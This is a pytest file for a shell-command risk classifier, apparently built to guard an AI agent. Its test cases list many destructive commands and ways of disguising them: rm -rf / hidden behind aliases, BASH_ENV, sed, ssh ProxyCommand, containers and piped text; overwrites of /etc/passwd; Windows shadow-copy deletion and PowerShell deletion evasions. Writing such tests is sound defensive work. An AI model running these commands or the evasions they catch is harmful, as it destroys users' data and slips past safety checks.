"""Shell-level mechanisms of issue 14 (safety-s): each family with its look-alikes that must
stay low (data, dry runs, read-only modes)."""

from __future__ import annotations

import pytest

from aintern_ls.safety import RiskLevel, assess
from tests.safety._levels import B, C, D, M, S


@pytest.mark.parametrize(
    "command,level",
    [
        # ssh_config options that run commands, for every program passing -o on to ssh
        ("scp -o ProxyCommand='rm -rf /' a host:b", B),
        ("sftp -o 'ProxyCommand sh -c \"rm -rf ~\"' host", B),
        ("sftp -oLocalCommand='rm -rf ~' -oPermitLocalCommand=yes host", B),
        ("ssh -o KnownHostsCommand='rm -rf /' host", B),
        ("scp -o ProxyCommand='ssh -W %h:%p bastion' host:/tmp/f .", M),
        ("scp -o ProxyJump=bastion host:/tmp/f .", M),
        # a process substitution as a script: known text is judged as inline code
        ("python3 <(echo 'import shutil; shutil.rmtree(\"/\")')", B),
        ("ruby <(echo 'system(\"rm -rf ~\")')", B),
        ("php <(echo '<?php system(\"rm -rf /\");')", B),
        ("python3 <(echo 'print(1)')", S),
        ("python3 <(curl -s https://x.example/a.py)", C),
        ("python3 <(cat helper.py)", C),
        ("diff <(ls a) <(ls b)", S),
        # case modification of the command word
        ("x=rM; ${x~~} -rf /", B),
        ("x=Rm; ${x~} -rf ~", B),
        ("x=RM; ${x,,} -rf /", B),
        ("x=ECHO; ${x,,} hello", S),
        # xargs -I{} fed known text
        ("echo 'rm -rf /' | xargs -I{} sh -c '{}'", B),
        ("xargs -a <(echo /) rm -rf", B),
        ("echo ls | xargs -I{} sh -c '{}'", S),
        # aliases and functions rebinding a name
        ("alias python3='bash -s'; echo 'rm -rf /' | python3", B),
        ("alias python3='bash -s'", C),
        ("alias ls='rm -rf ~'; ls", B),
        ("alias ll='ls -la'; ll", M),
        ("x=/; alias k='rm -rf $x'; k", B),
        # variables the nested code sees
        ("x=/; eval 'rm -rf $x'", B),
        ("export C='rm -rf ~'; bash -c '$C'", B),
        ("CMD='rm -rf ~' sh -c '$CMD'", B),
        ("X=1 sh -c 'echo $X'", S),
        # BASH_ENV read from stdin
        ("BASH_ENV=/dev/stdin bash -c true <<< 'rm -rf ~'", B),
        ("env BASH_ENV=/dev/stdin sh -c : <<< 'rm -rf /'", B),
        ("sudo BASH_ENV=/dev/stdin bash -c true <<< 'rm -rf /'", B),
        ("echo ls | BASH_ENV=/dev/stdin bash -c true", M),
        # sed's w/W FILE and e
        ("sed -n 'w /etc/passwd' x", B),
        ("sed 's/a/b/W /etc/shadow' x", B),
        ("sed -i 's/a/b/w /etc/passwd' x", B),
        ("sed -n '$w ~/.bashrc' x", C),
        ("sed -n '1e x=RM; ${x,,} -rf /' /etc/hostname", B),
        ("sed -n '/e/w errors.log' app.log", M),
        ("sed -n p /etc/passwd", S),
        ("sed 's/a/b/' /etc/passwd", S),
        # configuration-run commands rated by what they resolve to
        ("git -c core.pager='rm -f notes.bak' log", D),
        ("git -c core.pager='rm -rf /' log", B),
        ("git -c core.pager=cat show", S),
        ("tar xf a.tar --to-command='rm -f x'", D),
        # commands in containers are judged as if run here
        ("docker exec c rm -rf /", B),
        ("docker exec -it -u root c rm -rf /", B),
        ("docker compose exec web rm -rf /", B),
        ("docker run alpine rm -rf /", B),
        ("docker run --rm alpine ls -la", M),
        ("kubectl run x --image=busybox -- rm -rf /", B),
        ("kubectl exec pod -- sh -lc 'rm -rf /'", B),
        ("kubectl exec -n prod deploy/web -- rm -rf /data", D),
        ("kubectl exec pod -- ls /", M),  # remote, read-only: moderate
        # syntax checks run nothing
        ("node --check app.js", S),
        ("ruby -c x.rb", S),
        ("php -l x.php", S),
        ("bash -n script.sh", S),
        ("python -m py_compile x.py", S),
        ("perl -c x.pl", S),  # a syntax check, like bash -n (round-3 label reading)
        ("node -c -r ./hook.js app.js", M),
        # wrappers and their listing modes
        ("sudo FOO=1 rm -rf /", B),
        ("sudo PAGER='rm -rf ~' git log", B),
        ("sudo -l", S),
        ("sudo -k", S),
        ("sudo -n true", C),
        ("sudo " * 30 + "rm -rf /", B),
        # `$(( … ))` that is no arithmetic is a subshell
        ("echo $(( env FOO=1 rm -rf / ))", B),
        ("echo $(( a + b ))", S),
        # a listing in a substitution is the listed paths
        ("rm -rf $(ls -d /*)", B),
        ("rm -rf $(find ~ -maxdepth 1)", B),
        ("rm -rf $(find . -name '*.pyc')", D),
        ("echo $(ls -d /*)", S),
        # known text through filters and interpreters that only print it
        ("echo 'rm -rf /' | sed 's/^/ /' | sh", B),
        ("head -1 <<< 'rm -rf ~' | sh", B),
        ("echo rm -rf / | awk '{print}' | sh", B),
        ("printf 'ls\\nrm -rf ~\\n' | grep rm | sh", B),
        ("printf 'ls\\nrm -rf ~\\n' | grep -v rm | sh", M),
        ("python3 -c 'print(\"rm -rf /\")' | sh", B),
        ("perl -e 'print \"rm -rf ~\"' | bash", B),
        ("awk 'BEGIN{print \"rm -rf /\"}' | sh", B),
        ("python3 -c 'print(\"rm -rf /\")'", S),
        # printf -v and stdin read as a file
        ("printf -v c 'rm -rf %s' /; $c", B),
        ("printf -v x '%s' hello; echo $x", S),
        (". /dev/fd/0 <<< 'rm -rf /'", B),
        ("source /dev/stdin <<< 'rm -rf ~'", B),
        # files written then run
        ("tee x.sh <<< 'rm -rf /' >/dev/null; . ./x.sh", B),
        # find: a negated test that only excludes the starting point selects everything
        ("find . ! -name . -prune -exec rm -rf {} +", B),
        ("find . -not -name . -delete", B),
        ("find . ! -name '*.keep' -delete", D),
        ("find . -regex '.*' -delete", B),
        ("find . -regex '.*\\.log' -delete", D),
        ("GIT_PROXY_COMMAND='rm -rf /' git fetch", B),
        ("git -c mergetool.x.cmd='rm -rf ~' mergetool -t x", B),
        # another user's home, normalised
        ("rm -rf ~user/../..", B),
        ("rm -rf ~bob/tmp", D),
        # the working directory itself, however it is spelled
        ("cd build && rm -rf *", B),
        ("rm -rf ./.", B),
        ("cd build && rm -rf *.o", D),
    ],
)
def test_bash_shell_level(command: str, level: RiskLevel) -> None:
    got = assess(command, "bash")
    assert got.level == level, f"{command!r} -> {got.level.label} {got.findings}"


@pytest.mark.parametrize(
    "command,shell,level",
    [
        ("set x=rd\n%x% /s /q C:\\", "cmd", B),
        ("set x=vssadmin\n%x% delete shadows /all /quiet", "cmd", B),
        ("set x=if\n%x% 1==1 rd /s /q C:\\", "cmd", B),
        ('cmd /v:on /c "set x=rd&& !x! /s /q C:\\"', "cmd", B),
        ("%x% /s /q C:\\", "cmd", B),
        ("%x% /s /q build", "cmd", C),
        ("set x=dir\n%x%", "cmd", S),
        ("set x=rdx\n%x:~0,2% /s /q C:\\", "cmd", B),
        ("set x=rq\n%x:q=d% /s /q C:\\", "cmd", B),
        ("%y:~0,2% /s /q C:\\", "cmd", B),
        ("echo %date:~0,10%", "cmd", S),
        ("start /b call rd /s /q C:\\", "cmd", B),
        ("for /f %i in ('echo C:\\') do rd /s /q %i", "cmd", B),
        ("for /f %i in ('echo build') do rd /s /q %i", "cmd", D),
        ("iex 'Remove-Item -Recurse -Force $HOME'", "powershell", B),
        ("& $c -Recurse -Force C:\\", "powershell", B),
        ("$c='Remove-Item'; iex '& $c -Recurse -Force C:\\'", "powershell", B),
        ("Remove-Item -Recurse -Force -Path C:\\ -WhatIf:$false", "powershell", B),
        ("Remove-Item -Recurse -Force -Path C:\\ -WhatIf", "powershell", S),
        ("Set-Alias -Name ls -Value Remove-Item; ls -Recurse -Force C:\\", "powershell", B),
        ("New-Alias x Remove-Item; x -Recurse -Force $env:USERPROFILE", "powershell", B),
        ("$a = @{Recurse=$true; Force=$true; Path='C:\\'}; Remove-Item @a", "powershell", B),
        ("$a = @{Path='.\\build'; Recurse=$true}; Remove-Item @a", "powershell", D),
        (
            "$ExecutionContext.InvokeCommand.InvokeScript('Remove-Item -Recurse -Force C:\\')",
            "powershell",
            B,
        ),
    ],
)
def test_windows_shell_level(command: str, shell: str, level: RiskLevel) -> None:
    got = assess(command, shell)
    assert got.level == level, f"{command!r} -> {got.level.label} {got.findings}"


def test_the_reason_for_a_run_time_windows_program_names_the_guess() -> None:
    got = assess("%x% /s /q C:\\", "cmd")
    top = [f for f in got.findings if f.level == RiskLevel.BLOCKED]
    assert top and "only known at run time" in top[0].reason and "rd" in top[0].reason
